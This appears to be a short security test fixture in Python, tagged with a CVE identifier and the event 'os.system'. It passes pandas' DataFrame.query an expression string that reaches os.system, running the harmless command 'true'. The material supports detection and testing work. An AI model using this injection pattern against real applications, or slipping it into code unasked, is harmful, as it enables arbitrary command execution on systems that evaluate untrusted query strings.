# class: lineage
# mechanism: CVE-2023-46134
# reaches: event os.system
import pandas as pd
df = pd.DataFrame({"a": [0]})
text = "@pd.io.common.os.system('true') == a"
df.query(text)
